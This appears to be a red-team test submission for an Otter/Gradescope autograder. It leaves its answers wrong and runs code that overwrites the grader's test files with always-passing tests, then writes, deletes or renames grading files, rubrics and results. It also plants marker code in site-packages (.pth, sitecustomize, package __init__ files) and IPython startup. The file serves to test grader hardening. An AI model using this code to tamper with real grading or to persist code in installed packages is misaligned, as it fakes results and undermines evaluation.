"""Red team 90_write_everywhere.

Attack: Answer nothing right, but try to write, append to, replace or delete every file that
decides or reports a grade: Otter's test files (replaced by tests that always pass, both
in Gradescope's /autograder and relative to the working folder, where plain Otter keeps
them), results.json, otter_config.json, the casebook and rubrics, run_otter.py, the
installed packages (a .pth file, sitecustomize, autograder, otter and numpy themselves),
IPython's startup folder; leave markers where it can.

Deserves: the short answers only (8); no marker, no grading file changed.
"""

# --------------------------------------------------------------------------------------------
# The reference answers and functions (honest part of this file):
# <<the reference solution, solutions/a2.py, is inserted here by redteam_catalog>>

# --------------------------------------------------------------------------------------------
# The attack.
# --------------------------------------------------------------------------------------------
import os as _os
import site as _site
import sysconfig as _sysconfig

_PASS = ("OK_FORMAT = True\ntest = {'name': '%s', 'points': 2, 'suites': [{'cases': [{'code': "
         "'>>> True\\nTrue', 'hidden': False, 'locked': False}], 'scored': True, 'setup': '', "
         "'teardown': '', 'type': 'doctest'}]}\n")
for _folder in ("/autograder/source/tests", "/autograder/submission/tests", "tests",
                "../source/tests", "../submission/tests"):
    for _name in ("q1_ii", "q1_iv"):
        try:
            with open(f"{_folder}/{_name}.py", "w") as _handle:
                _handle.write(_PASS % _name)
        except OSError:
            pass
_targets = ["/autograder/results/results.json", "/autograder/results/A2-REDTEAM-MARKER-write",
            "/autograder/source/otter_config.json",
            "/autograder/source/files/a2-grading/casebook.json",
            "/autograder/source/files/a2-grading/rubrics/q3.yaml",
            "/autograder/source/run_otter.py", "/autograder/run_autograder",
            "/root/.ipython/profile_default/startup/00-A2-REDTEAM-MARKER.py"]
for _folder in {_sysconfig.get_paths()["purelib"], _sysconfig.get_paths()["platlib"],
                *getattr(_site, "getsitepackages", lambda: [])()}:
    _targets += [f"{_folder}/A2-REDTEAM-MARKER.pth", f"{_folder}/sitecustomize.py",
                 f"{_folder}/autograder/__init__.py", f"{_folder}/otter/__init__.py",
                 f"{_folder}/numpy/__init__.py"]
for _path in _targets:
    for _mode in ("a", "w"):
        try:
            with open(_path, _mode) as _handle:
                _handle.write("\nimport os; os.system('touch /tmp/A2-REDTEAM-MARKER-ran')\n")
        except OSError:
            pass
    try:
        _os.unlink(_path)
    except OSError:
        pass
    try:
        _os.rename(_path, _path + ".moved")
    except OSError:
        pass


def receptive_field(layers):
    return -1


def transposed_conv2d(x, kernel, stride=1, padding=0, dilation=1):
    return [[-1]]
